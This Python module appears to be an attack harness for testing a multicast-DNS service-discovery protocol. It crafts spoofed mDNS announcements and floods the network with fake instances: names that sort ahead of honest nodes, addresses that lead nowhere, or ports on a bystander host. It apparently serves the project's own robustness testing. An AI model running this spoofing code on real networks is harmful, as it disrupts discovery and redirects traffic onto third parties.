"""Attacks on discovery: false instances in multicast DNS (Docs/Protocol.md section 10)."""

import os
import socket
import struct

GROUP = ("224.0.0.251", 5353)
PTR, TXT, AAAA, SRV, A = 12, 16, 28, 33, 1
SHARED, UNIQUE = 1, 0x8001
LETTERS = str.maketrans("0123456789", "abcdefghij")
SERVICE = ("_earshot", "_tcp", "local")


def name(*labels):
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def record(owner, kind, kind_class, ttl, data):
    return owner + struct.pack(">HHIH", kind, kind_class, ttl, len(data)) + data


def announcement(tag, instance, host, address, port, ttl=120):
    """The response that announces one instance."""
    full = name(instance, *SERVICE)
    records = [
        record(name("_r" + tag, "_sub", *SERVICE), PTR, SHARED, ttl, full),
        record(full, SRV, UNIQUE, ttl, struct.pack(">HHH", 0, 0, port) + name(host, "local")),
        record(full, TXT, UNIQUE, ttl, b"\x03v=3"),
        record(name(host, "local"), A, UNIQUE, ttl, socket.inet_aton(address)),
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def label(number):
    """Names that sort before those of honest nodes."""
    return "aaaa" + f"{number:022d}".translate(LETTERS)


class Instances:
    """Announces `count` instances repeatedly, each at the address and the port that `place` returns."""

    def __init__(self, stage, count, place):
        self.stage, self.count, self.place = stage, count, place
        self.tag = stage.tag

    def run(self):
        stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        stream.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        stream.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(self.stage.address))
        stream.bind(("", GROUP[1]))
        for number in self.stage.paced(100):
            chosen = number % self.count
            address, port = self.place(chosen)
            stream.sendto(announcement(self.tag, label(chosen), label(chosen), address, port), GROUP)
            self.stage.count("announcements")
        stream.close()


def nowhere(number):
    """Unused addresses on the network, at which a dial times out."""
    return f"10.77.{200 + number // 250}.{number % 250 + 1}", 40_000


def ever_new(stage):
    """Endless instances with always new names."""
    salt = int.from_bytes(os.urandom(4), "big")
    attack = Instances(stage, 1_000_000, lambda number: nowhere((number + salt) % 5_000))
    return attack


ATTACKS = {
    "fake-instances": lambda stage: Instances(stage, 1_000, nowhere),
    "endless-instances": ever_new,
    "elsewhere": lambda stage: Instances(stage, 1_000, lambda number: (stage.bystander, 9_000 + number % 3)),
    "many-ports-elsewhere": lambda stage: Instances(stage, 1_000, lambda number: (stage.bystander, 9_000 + number)),
}
